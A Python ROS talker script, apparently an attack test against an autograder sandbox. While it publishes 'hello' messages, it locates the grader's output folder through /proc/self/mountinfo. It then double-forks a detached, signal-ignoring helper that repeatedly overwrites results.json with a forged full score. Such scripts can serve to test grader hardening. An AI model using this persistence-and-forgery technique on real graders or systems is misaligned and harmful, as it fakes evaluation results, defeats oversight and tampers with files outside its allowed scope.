#!/usr/bin/env python3
"""Leaves a helper behind (double fork, new session, empty environment, deaf to signals) that rewrites the student's results.json to full marks once the grader has written it; the listener is buggy."""
import os
import subprocess
import sys
import threading
import time

import rospy
from std_msgs.msg import String

def output_folder():
    """The grader's output folder, guessed from the mounts the sandbox shows (its binds keep host paths)."""
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if "/_work/" in point:
                    return point.split("/_work/")[0]
    except OSError:
        pass
    return None


def say(text):
    print("[attack] " + text, flush=True)


HELPER = """
import os, signal, sys, time
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1):
    signal.signal(s, signal.SIG_IGN)
path = sys.argv[1]
deadline = time.time() + 900
while time.time() < deadline:
    try:
        if os.path.exists(path):
            with open(path, "w") as f:
                f.write('{"score": 10.0, "output": "forged", "tests": [{"name": "chatter: forged", "score": 10.0, "max_score": 10.0, "status": "passed", "output": "passed"}]}')
    except OSError:
        pass
    time.sleep(0.5)
"""


def leave_forger():
    out = output_folder()
    target = os.path.join(out or "/nonexistent", "attack_forge_results", "results.json")
    say("leaving a helper to forge %s" % target)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/usr/bin/python3", ["/usr/bin/python3", "-I", "-c", HELPER, target], {})
        os._exit(0)


def talk():
    rospy.init_node("talker")
    pub = rospy.Publisher("/chatter_talk", String, queue_size=10)
    rate = rospy.Rate(2)
    n = 0
    while not rospy.is_shutdown():
        n += 1
        pub.publish(String("hello %d" % n))
        rate.sleep()


if __name__ == "__main__":
    leave_forger()
    talk()
